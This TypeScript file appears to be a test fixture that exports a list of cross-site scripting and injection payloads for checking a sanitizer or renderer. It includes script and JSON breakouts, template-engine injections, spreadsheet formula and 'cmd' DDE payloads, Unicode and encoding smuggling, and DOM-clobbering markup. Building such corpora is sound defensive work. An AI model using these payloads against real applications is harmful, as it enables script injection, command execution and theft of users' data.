import { ran } from './ran.ts'

const script = `<script>${ran}</script>`
const picture = `<img src=x onerror=${ran}>`
const letter = (code: number) => String.fromCodePoint(code)

/** Endings of strings in programs, in data and in what programs store. */
const inPrograms = [
  `</script>${script}`,
  `</script ${picture}`,
  `</SCRIPT\t>${picture}`,
  `<!--<script>${ran}`,
  `--></script>${picture}`,
  `";${ran};//`,
  `';${ran};//`,
  `\`;${ran};//`,
  `\\";${ran};//`,
  `\\';${ran};//`,
  `\\\\";${ran};//`,
  `"+${ran}+"`,
  `'-${ran}-'`,
  `"}];${ran};[{"`,
  `","x":"${script}`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${ran}\\x3c/script\\x3e`,
  `\\u{3c}svg onload=${ran}\\u{3e}`,
  `\u2028${ran}\u2029//`,
  `";\u2028${ran}\u2028//`,
  `*/${ran}/*`,
  `//\n${ran}`,
  `]]>${script}<![CDATA[`,
  `]]]]><![CDATA[>${script}`,
  `{"__proto__":{"x":"${ran}"}}`,
  `__proto__[innerHTML]=${picture}`,
  `constructor.prototype.innerHTML=${picture}`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${ran}"}}}`,
  `{"dangerouslySetInnerHTML":{"__html":"${script}"}}`,
  `$undefined$Q0$F1$@2$L3${ran}`,
  `[["SingleFetchRedirect",1],"javascript:${ran}"]`,
  `["D",1]\\n${ran}`,
  `callback(${ran})`,
  `)]}',\n${ran}`,
]

// Split, so that they do not look like a template literal with the wrong quotes.
const open = ['$', '{'].join('')
const shut = '}'

/** Braces and brackets that some template engine interprets. */
const inTemplates = [
  `{{constructor.constructor('${ran}')()}}`,
  `{{$on.constructor('${ran}')()}}`,
  `{{_c.constructor('${ran}')()}}`,
  `{{{${script}}}}`,
  `{{&${script}}}`,
  `{{email}}${script}{{phone}}`,
  `{{product}}"><svg/onload=${ran}>`,
  `${open}${ran}${shut}`,
  `${open}constructor.constructor('${ran}')()${shut}`,
  `#{${ran}}`,
  `#${open}${ran}${shut}`,
  `<%= ${ran} %>`,
  `<%- ${script} %>`,
  `<? ${ran} ?>`,
  `<?= ${ran} ?>`,
  `<# ${ran} #>`,
  `{% raw %}${script}{% endraw %}`,
  `{%${ran}%}`,
  `[[${ran}]]`,
  `[(${ran})]`,
  `@(${ran})`,
  `*{${ran}}`,
  `~{${ran}}`,
  `{@html '${script}'}`,
  `<x ng-app>{{$eval.constructor('${ran}')()}}</x>`,
  `<p v-html="'${ran}'">`,
  `<p x-data x-init="${ran}">`,
  `<p :class="${ran}" @click="${ran}">`,
  `<p hx-on:load="${ran}" data-hx-get=/>`,
  `<p data-bind="html:${ran}">`,
  `#set($x=${ran})$x`,
  `#let x = ${ran}\n#eval("x")`,
  `#raw("${script}", lang: "html")`,
  `#link("javascript:${ran}")[go]`,
  `\\input{${ran}}\\href{javascript:${ran}}{go}`,
  `$ ${ran} $`,
  `:::html\n${script}\n:::`,
  `\`\`\`html\n${script}\n\`\`\``,
  `<!--#exec cmd="${ran}"-->`,
  `<esi:include src="javascript:${ran}"/>`,
  `%{${ran}}`,
  `%s%n%x${ran}`,
  `{0}${ran}{1}`,
  `{count, plural, other {${script}}}`,
  `$&$1$\`$'${script}`,
]

/** Beginnings that a spreadsheet would interpret as a formula. */
const inTables = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', '"=', "'="].flatMap(
  (sign) => [`${sign}HYPERLINK("javascript:${ran}","go")`, `${sign}cmd|' /C ${ran}'!A0`],
)

/** Characters that are invisible, reverse text, or would be read as tags in other encodings. */
const inCharacters = [
  ...[0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x200e, 0x200f, 0x061c].map(
    (code) => `${letter(code)}${picture}${letter(0x2069)}`,
  ),
  ...[0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x034f, 0x3164].map(
    (code) => `<${letter(code)}script>${ran}</scr${letter(code)}ipt>`,
  ),
  ...[0x00a0, 0x0085, 0x2028, 0x2029, 0x3000, 0x0b, 0x1f, 0x7f].map(
    (code) => `<img${letter(code)}src=x${letter(code)}onerror=${ran}>`,
  ),
  ...[0x01, 0x08, 0x1b].map((code) => `<scr${letter(code)}ipt>${ran}</script>`),
  `+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
  `+/v8-+ADw-svg onload+AD0-${ran}+AD4-`,
  `~{<script>${ran}</script>~}`,
  `\u001B$B<script>${ran}</script>\u001B(B`,
  `\u00C0\u00BCscript\u00C0\u00BE${ran}`,
  `\u00E0\u0080\u00BCscript>${ran}`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `%253Cscript%253E${ran}%253C/script%253E`,
  `%u003Cscript%u003E${ran}`,
  `%C0%BCscript%C0%BE${ran}`,
  `\u{E003C}\u{E0073}cript${ran}`,
  `\u02C2img src=x onerror=${ran}\u02C3`,
  `\uFE64script\uFE65${ran}`,
  `\u3008script\u3009${ran}`,
  `<img src=x onerror=${[...ran].map((sign) => `&#${sign.codePointAt(0)};`).join('')}>`,
  `<img src=x onerror=${ran.replaceAll(/[a-z]/g, (sign) => `\\u00${sign.codePointAt(0)?.toString(16)}`)}>`,
  `<b>${'e\u0301'.repeat(9)}\u0336</b>${picture}`,
  `\u{1F468}\u200D\u{1F469}${script}\u{1F1F9}\u{1F1F7}`,
  `${'W'.repeat(60)}${picture}`,
]

/** Names that a page's own scripts may look up in the document. */
const asNames = [
  'strangerRan',
  'location',
  'cookie',
  'body',
  'getElementById',
  '__reactRouterContext',
  'currentScript',
  'nonce',
].flatMap((name) => [
  `<a id=${name}><a id=${name} name=x href="javascript:${ran}">`,
  `<form name=${name}><input name=attributes value="${ran}"></form>`,
  `<iframe name=${name} srcdoc="<a id=x href='javascript:${ran}'>"></iframe>`,
])

/** Characters that no field accepts, but that a page may meet in older or external data. */
const impossible = [
  `<scr\0ipt>${ran}</scr\0ipt>`,
  `<img src=x\0 onerror\0=${ran}>`,
  `\0${script}`,
  `java\0script:${ran}`,
  `\uD83D${script}`,
  `<img src=x onerror=${ran} \uDE00>`,
  `\uD800<\uDFFFscript>${ran}`,
  `"\uDC00 onfocus=${ran} autofocus x="`,
]

export const quietAttempts: readonly string[] = [
  ...inPrograms,
  ...inTemplates,
  ...inTables,
  ...inCharacters,
  ...asNames,
  ...impossible,
]
